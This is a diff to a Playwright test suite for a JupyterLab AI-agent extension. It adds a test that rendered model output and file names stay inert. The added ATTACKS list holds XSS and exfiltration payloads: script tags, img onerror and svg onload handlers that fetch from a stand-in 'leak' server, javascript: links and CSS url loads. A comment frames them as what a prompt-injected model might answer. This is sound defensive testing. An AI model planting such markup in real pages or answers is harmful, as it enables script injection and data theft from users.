@@ -9,6 +9,7 @@ so what is checked is the display, the buttons and the stop button — not a mod
 
 from __future__ import annotations
 
+import http.server
 import json
 import os
 import secrets
@@ -17,6 +18,7 @@ import signal
 import socket
 import subprocess
 import sys
+import threading
 import time
 import urllib.request
 from collections.abc import Iterator
@@ -51,6 +53,9 @@ from twinny_magics import Agent, ToolCall
 from twinny_magics.scripted import Scripted, ScriptedServer
 
 Path("a.py").write_text("x = 1\\n")
+HOSTILE_NAME = "<img src=x onerror=alert(1)>.md"
+Path(HOSTILE_NAME).write_text("<script>alert(2)</script>")
+HOSTILE_ANSWER = {hostile_answer!r}
 server = ScriptedServer([
     Scripted("Let me look.", calls=(ToolCall("read_file", {"path": "a.py"}),)),
     Scripted("", calls=(ToolCall("edit_file", {"path": "a.py", "find": "x = 1", "replace": "x = 2"}),)),
@@ -59,16 +64,34 @@ server = ScriptedServer([
     "It ran.",
     Scripted("word " * 400, delay=0.05),
     "Short answer.",
+    Scripted("Reading it.", calls=(ToolCall("read_file", {"path": HOSTILE_NAME}),)),
+    HOSTILE_ANSWER,
 ])
 demo = Agent(server=server, workspace=Path.cwd())
 %load_ext twinny_magics
 %agent use demo"""
+#: What a prompt-injected model might answer: each piece would run script or load from the leak server if
+#: the page took it as HTML (``{leak}`` is that server's address; every request it gets is a failure).
+ATTACKS = [
+    "![badge]({leak}/markdown-image?k=secret)",
+    "<img src={leak}/raw-img onerror=\"fetch('{leak}/onerror'); window.__pwned = 1; alert(1)\">",
+    "<script>fetch('{leak}/script'); window.__pwned = 2;</script>",
+    "<svg onload=\"fetch('{leak}/svg'); window.__pwned = 3\"></svg>",
+    '<iframe src="javascript:parent.__pwned = 4"></iframe>',
+    '</details></div><img src=x onerror="window.__pwned = 5">',
+    "[click me](javascript:window.__pwned=6)",
+    "<style>body {{ background: url({leak}/css) }}</style>",
+]
 CELLS = [
     SETUP,
     "%%agent\nSet x to 2.",
     "%%agent\nTouch approved.txt.",
     "%%agent\nWrite a very long story.",
     "%%agent\nAgain, briefly.",
+    "%%agent\nWhat is in the odd file?",
+    # The control: the same kind of image as plain text/markdown output does reach the leak server, so the
+    # check above it can fail.
+    "from IPython.display import Markdown\nMarkdown('![control]({leak}/control)')",
 ]
 
 
@@ -173,18 +196,59 @@ def lab(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Lab]:
     server.stop()
 
 
+class Leak:
+    """A server standing for an attacker's host: it records every request the page makes to it."""
+
+    def __init__(self) -> None:
+        self.paths: list[str] = []
+        seen = self.paths
+
+        class Handler(http.server.BaseHTTPRequestHandler):
+            def do_GET(self) -> None:
+                seen.append(self.path)
+                self.send_response(200)
+                self.send_header("Content-Type", "image/gif")
+                self.end_headers()
+
+            def log_message(self, *args: object) -> None:
+                pass
+
+        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
+        threading.Thread(target=self.server.serve_forever, daemon=True).start()
+
+    def stop(self) -> None:
+        self.server.shutdown()
+
+
 @pytest.fixture(scope="module")
-def page(lab: Lab) -> Iterator[Any]:
+def leak() -> Iterator[Leak]:
+    server = Leak()
+    yield server
+    server.stop()
+
+
+@pytest.fixture(scope="module")
+def page(lab: Lab, leak: Leak) -> Iterator[Any]:
     """The test notebook open in JupyterLab, its kernel idle, every cell started."""
     from playwright.sync_api import sync_playwright
 
-    notebook = new_notebook(cells=[new_code_cell(source) for source in CELLS])
+    answer = "Here is what I found.\n\n" + "\n\n".join(ATTACKS) + "\n\nThat is all."
+    sources = [
+        source.replace("{hostile_answer!r}", repr(answer.replace("{leak}", leak.url))).replace(
+            "{leak}", leak.url
+        )
+        for source in CELLS
+    ]
+    notebook = new_notebook(cells=[new_code_cell(source) for source in sources])
     notebook.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3", "language": "python"}
     nbformat.write(notebook, lab.root / "agent.ipynb")
     with sync_playwright() as playwright:
         browser = playwright.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
         opened = browser.new_page(viewport={"width": 1300, "height": 1800})
         opened.set_default_timeout(WAIT_MS)
+        opened.dialogs = []  # every alert/confirm/prompt the page opens (none may)
+        opened.on("dialog", lambda dialog: (opened.dialogs.append(dialog.message), dialog.dismiss()))
         opened.goto(lab.url("/lab/tree/agent.ipynb"))
         # The status bar's text, not the data-status attribute, which says idle too early.
         opened.wait_for_function(
@@ -244,3 +308,22 @@ def test_the_apply_button_writes_the_edit_after_the_cell_has_finished(page: Any,
     wait_for_text(page, 1, "Proposed edit to a.py — applied")
     assert (lab.root / "a.py").read_text() == "x = 2\n"
     page.screenshot(path=str(SHOTS / "after.png"), full_page=True)
+
+
+def test_hostile_model_text_and_file_names_stay_inert_in_the_page(page: Any, leak: Leak) -> None:
+    wait_for_text(page, 5, "That is all.")
+    output(page, 6).locator("img").first.wait_for(state="attached", timeout=WAIT_MS)
+    area = output(page, 5)
+    # The attacks are on the page as text, the formatting around them rendered.
+    assert area.get_by_text("[image: badge").count() == 1
+    assert area.get_by_text("[click me](javascript:").count() == 1
+    assert area.locator("summary").filter(has_text="<img src=x onerror=alert(1)>.md").count() == 1
+    # In what the outputs render (JupyterLab's own icons around them are SVG).
+    live = area.locator(".jp-OutputArea-output").locator("img, script, iframe, svg, style, object, embed")
+    assert live.count() == 0, live.evaluate_all("(nodes) => nodes.map((n) => n.outerHTML.slice(0, 300))")
+    page.wait_for_timeout(1500)  # time for any image, frame or handler to fire (the control's too)
+    assert page.evaluate("() => window.__pwned") is None
+    assert page.dialogs == []
+    # Only the control reached the "attacker's" server: the check can see a leak, and ours made none.
+    assert leak.paths == ["/control"], leak.paths
+    page.screenshot(path=str(SHOTS / "hostile.png"), full_page=True)
